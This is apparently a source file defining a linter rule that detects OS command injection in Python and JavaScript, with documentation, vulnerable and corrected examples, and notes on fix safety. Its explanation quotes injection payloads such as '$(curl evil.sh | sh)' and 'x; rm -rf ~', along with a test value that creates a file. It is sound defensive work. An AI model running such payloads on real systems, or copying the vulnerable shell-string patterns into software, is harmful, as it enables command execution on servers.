import { defineRule } from '../../engine/types';
import { python } from './python';
import { js } from './js';

export default defineRule({
  id: 'command-injection',
  family: 'secrets-auth-config',
  severity: 'error',
  languages: ['python', 'javascript', 'typescript'],
  fix: { availability: 'sometimes', maxApplicability: 'unsafe', title: 'Run the command as an argument list, without a shell' },
  python,
  js,
  docs: `## What it does
Flags shell commands built at run time from a value that is not a constant, or taken from the request, and run through a shell.

Python: \`os.system\`, \`os.popen\`, \`subprocess.getoutput\`, \`asyncio.create_subprocess_shell\`, and
\`subprocess.run/call/check_call/check_output/Popen\` with \`shell=True\`. JavaScript and TypeScript:
\`child_process.exec\` / \`execSync\`, and \`spawn\` / \`execFile\` with \`shell: true\` (tracked through
imports and their aliases, \`require\`, destructuring, and \`promisify(exec)\`).

The command is followed inside the function, through assignments, f-strings, \`+\`, \`%\`,
\`.format\` and template literals. Literals, module constants, values passed through
\`shlex.quote\` / \`shlex.join\` or \`int()\` / \`Number()\` / \`Number.parseInt\`, and allow-listed choices (\`if fmt not in FORMATS: return\`)
are not flagged. A whole command handed in as a parameter of a plain function is the caller's
business and is not flagged; one from the request (a view's parameters, \`request.GET\`,
\`req.query\`) is.

## Why is this bad?
The shell reads the whole string: \`x; rm -rf ~\`, \`$(curl evil.sh | sh)\` or a backquote inside
the value runs another command with the server's rights. An argument list without a shell hands
the value to the program as one argument, whatever it contains.

## Example
\`\`\`python
import subprocess

def connect(name):
    subprocess.run(f"openvpn --config {name}", shell=True, check=True)
\`\`\`

\`\`\`js
const { exec } = require('child_process');

function thumbnail(file, cb) {
  exec(\`convert \${file} -resize 200x200 thumb.png\`, cb);
}
\`\`\`

## Use instead
\`\`\`python
import subprocess

def connect(name):
    subprocess.run(["openvpn", "--config", name], check=True)
\`\`\`

\`\`\`js
const { exec, execFile } = require('child_process');

function thumbnail(file, cb) {
  execFile('convert', [file, '-resize', '200x200', 'thumb.png'], cb);
}
\`\`\`

## Fix safety
Unsafe: without a shell, shell features in the command stop working (variables, globs, pipes),
and a value with spaces stays one argument. The fix is only offered when the command splits on
literal spaces into words, each interpolated value a whole word, and the literal text holds no
shell syntax (quotes, \`|\`, \`;\`, \`>\`, \`$\`, globs); otherwise there is no automatic fix.
\`os.system(cmd)\` becomes \`subprocess.call([...])\` (same exit code on success; a signal is
reported differently) with \`import subprocess\`; \`asyncio.create_subprocess_shell(cmd, ...)\` becomes
\`asyncio.create_subprocess_exec("prog", arg, ..., ...)\`; \`exec\` becomes \`execFile\` (same callback
arguments), \`execSync\` \`execFileSync\`, the import extended (in its sorted place when the
list is sorted). No fix for an aliased or promisified \`exec\` (another binding would have to be
imported). A value the command string converted to text is passed as \`str(value)\` /
\`String(value)\` unless it is known to be a string already (a \`str\`-annotated parameter, a
request field, a string method's result, an Express route parameter): an argument list does not
convert it, and \`subprocess\` raises \`TypeError\` on an \`int\`, \`execFile\` \`ERR_INVALID_ARG_TYPE\`
on a number.

## How to verify
Call the code with \`x; touch /tmp/pwned\` as the value: before the fix the file appears, after it
the program receives the value as one argument and no file appears.

## References
- OWASP: OS Command Injection Defense Cheat Sheet
- Bandit B602 subprocess_popen_with_shell_equals_true, B605 start_process_with_a_shell
- Node.js: child_process.execFile
`,
});
